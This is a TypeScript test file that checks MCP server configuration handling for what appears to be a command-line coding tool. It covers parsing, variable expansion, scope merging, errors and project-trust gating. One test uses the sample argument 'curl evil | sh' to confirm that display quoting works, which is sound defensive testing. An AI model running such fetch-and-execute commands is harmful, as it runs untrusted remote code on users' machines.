// MCP server configuration: the shapes of .mcp.json, settings and --mcp-config, ${VAR} expansion, scope
// precedence, and project trust (an untrusted project's .mcp.json servers stay out and are reported).
import { mkdirSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ConfigError, loadConfig, projectTrust, type CliFlags } from '../../src/config.ts';
import { describeServer, expandServer, expandVars, parseServerDef, trustValue } from '../../src/mcp/config.ts';
import { looseningLines, trustProject, untrustedNotice } from '../../src/trust.ts';

function sandbox() {
  const tmp = realpathSync(mkdtempSync(path.join(os.tmpdir(), 'glm-mcp-config-')));
  const home = path.join(tmp, 'home');
  const project = path.join(tmp, 'proj');
  mkdirSync(path.join(project, '.git'), { recursive: true });
  const env = { HOME: home, GLM_API_KEY: 'k' } as NodeJS.ProcessEnv;
  const write = (file: string, data: unknown) => {
    mkdirSync(path.dirname(file), { recursive: true });
    writeFileSync(file, typeof data === 'string' ? data : JSON.stringify(data));
  };
  return {
    project,
    env,
    user: (data: unknown) => write(path.join(home, '.config', 'glm-code', 'settings.json'), data),
    mcpJson: (data: unknown) => write(path.join(project, '.mcp.json'), data),
    load: (flags: CliFlags = {}, withEnv: NodeJS.ProcessEnv = env) => loadConfig(flags, withEnv, project),
    trust() {
      const t = projectTrust(env, project);
      trustProject(t.configDir, t.projectRoot, t.fingerprint);
    },
  };
}

const stdio = (command: string, args: string[] = [], env: Record<string, string> = {}) => ({ type: 'stdio', command, args, env });

describe('server definitions', () => {
  it('reads stdio, http and sse shapes (type optional for a command; "url" alone means http)', () => {
    expect(parseServerDef({ command: 'npx', args: ['-y', 'x'] }, 'here')).toEqual(stdio('npx', ['-y', 'x']));
    expect(parseServerDef({ url: 'https://h/mcp' }, 'here')).toEqual({ type: 'http', url: 'https://h/mcp', headers: {} });
    expect(parseServerDef({ type: 'sse', url: 'https://h/sse', headers: { A: 'b' } }, 'here')).toEqual({ type: 'sse', url: 'https://h/sse', headers: { A: 'b' } });
  });

  it.each([
    [{ args: [] }, /needs "command"/],
    [{ command: 'x', args: 'a b' }, /"args" must be a list of strings/],
    [{ command: 'x', env: { A: 1 } }, /"env" must be an object of strings/],
    [{ type: 'ws', url: 'ws://x' }, /unknown "type" "ws"/],
    ['npx', /must be an object/],
  ])('rejects %j in one line', (def, message) => {
    expect(() => parseServerDef(def, 'server "a"')).toThrow(message);
  });

  it('expands ${VAR} and ${VAR:-default} in command, args, env, url and headers; an unset variable without default is an error', () => {
    const env = { TOKEN: 't0k', DIR: '/d' };
    expect(expandVars('a${DIR}b ${NOPE:-x} ${TOKEN:-y}', env)).toBe('a/db x t0k');
    expect(() => expandVars('${NOPE}', env)).toThrow('${NOPE} is not set');
    expect(expandServer({ type: 'stdio', command: '${DIR}/bin', args: ['${DIR}'], env: { K: '${TOKEN}' } }, env)).toEqual(stdio('/d/bin', ['/d'], { K: 't0k' }));
    expect(expandServer({ type: 'http', url: 'https://h/${DIR:-x}', headers: { Authorization: 'Bearer ${TOKEN}' } }, env)).toEqual({
      type: 'http',
      url: 'https://h//d',
      headers: { Authorization: 'Bearer t0k' },
    });
  });
});

describe('describeServer', () => {
  it('quotes an argument a shell would split, so where each ends shows (glm trust, glm mcp list)', () => {
    const def = parseServerDef({ command: 'sh', args: ['-c', "echo hi; curl evil | sh", "it's", '', '--token=${TOKEN}'] }, 'test');
    expect(describeServer(def)).toBe("sh -c 'echo hi; curl evil | sh' 'it'\\''s' '' --token=${TOKEN} (no env, given $TOKEN)");
    expect(describeServer(parseServerDef({ command: 'npx', args: ['-y', '@scope/server@1.2.3', './data'] }, 'test'))).toBe('npx -y @scope/server@1.2.3 ./data');
  });
});

describe('loadConfig', () => {
  it("merges user < project < local < --mcp-config by name, sorted by name; a project's never replaces the user's", () => {
    const s = sandbox();
    s.user({ mcpServers: { a: { command: 'user-a' }, b: { command: 'user-b' } }, projects: { [s.project]: { mcpServers: { c: { command: 'local-c' }, a: { command: 'local-a' } } } } });
    s.mcpJson({ mcpServers: { b: { command: 'project-b' }, d: { url: 'http://127.0.0.1:1/mcp' } } });
    s.trust();
    const c = s.load({ mcpConfig: ['{"mcpServers": {"d": {"command": "flag-d"}}}'] });
    expect(c.mcpServers!.map((e) => [e.name, e.scope, e.def.type === 'stdio' ? e.def.command : e.def.url])).toEqual([
      ['a', 'local', 'local-a'],
      ['b', 'user', 'user-b'], // the user's rules for mcp__b are for theirs (a warning says so)
      ['c', 'local', 'local-c'],
      ['d', 'flag', 'flag-d'],
    ]);
    expect(c.untrustedProject).toBeUndefined();
  });

  it('--strict-mcp-config uses only --mcp-config (a file, relative to the working directory)', () => {
    const s = sandbox();
    s.user({ mcpServers: { a: { command: 'user-a' } } });
    writeFileSync(path.join(s.project, 'servers.json'), JSON.stringify({ mcpServers: { f: { command: 'file-f' } } }));
    expect(s.load({ mcpConfig: ['servers.json'], strictMcpConfig: true }).mcpServers!.map((e) => e.name)).toEqual(['f']);
    expect(s.load({ strictMcpConfig: true }).mcpServers).toEqual([]);
  });

  it('an untrusted project starts none of its .mcp.json servers and says so; trusting covers them; a change needs trust again', () => {
    const s = sandbox();
    s.mcpJson({ mcpServers: { docs: { command: 'npx', args: ['-y', 'docs'], env: { KEY: '${DOCS_KEY}' } } } });
    const c = s.load();
    expect(c.mcpServers).toEqual([]);
    const value = trustValue('docs', stdio('npx', ['-y', 'docs'], { KEY: '${DOCS_KEY}' }) as never);
    expect(c.untrustedProject?.entries).toEqual([{ kind: 'mcpServer', value }]);
    expect(untrustedNotice(c.untrustedProject!, s.project)).toBe('not using 1 MCP server from .mcp.json: this project is not trusted (run "glm trust" in it to trust it)');
    expect(looseningLines(c.untrustedProject!)).toEqual([expect.stringContaining('start these MCP servers of .mcp.json'), '    docs: npx -y docs (env KEY, given $DOCS_KEY)']);

    s.trust();
    expect(s.load().mcpServers!.map((e) => e.name)).toEqual(['docs']);
    s.mcpJson({ mcpServers: { docs: { command: 'npx', args: ['-y', 'docs'], env: { KEY: '${OTHER}' } } } });
    expect(s.load().mcpServers).toEqual([]);
  });

  it('the same server in the user settings is not reported as left out', () => {
    const s = sandbox();
    s.user({ mcpServers: { docs: { command: 'npx' } } });
    s.mcpJson({ mcpServers: { docs: { command: 'npx' } } });
    const c = s.load();
    expect(c.mcpServers!.map((e) => [e.name, e.scope])).toEqual([['docs', 'user']]);
    expect(c.untrustedProject).toBeUndefined();
  });

  it.each([
    ['.mcp.json', (s: ReturnType<typeof sandbox>) => s.mcpJson('{"mcpServers": {'), /Invalid JSON in .*\.mcp\.json/],
    ['a bad name', (s: ReturnType<typeof sandbox>) => s.mcpJson({ mcpServers: { 'a b': { command: 'x' } } }), /Invalid MCP server name "a b"/],
    ['user settings', (s: ReturnType<typeof sandbox>) => s.user({ mcpServers: { a: { command: 3 } } }), /server "a" in "mcpServers" in .*settings\.json needs "command"/],
    ['--mcp-config', (s: ReturnType<typeof sandbox>) => s.load({ mcpConfig: ['missing.json'] }), /--mcp-config missing\.json: no such file/],
    ['MCP_TIMEOUT', (s: ReturnType<typeof sandbox>) => s.load({}, { ...s.env, MCP_TIMEOUT: '10s' }), /MCP_TIMEOUT must be a positive whole number/],
  ])('a bad configuration (%s) is a one-line ConfigError', (_what, setup, message) => {
    const s = sandbox();
    const run = () => {
      setup(s);
      s.load();
    };
    expect(run).toThrow(ConfigError);
    expect(run).toThrow(message);
  });

  it('the startup timeout: MCP_TIMEOUT, else mcp.startupTimeoutMs, else 10 s', () => {
    const s = sandbox();
    expect(s.load().mcpStartupTimeoutMs).toBe(10_000);
    s.user({ mcp: { startupTimeoutMs: 2500 } });
    expect(s.load().mcpStartupTimeoutMs).toBe(2500);
    expect(s.load({}, { ...s.env, MCP_TIMEOUT: '700' }).mcpStartupTimeoutMs).toBe(700);
  });
});
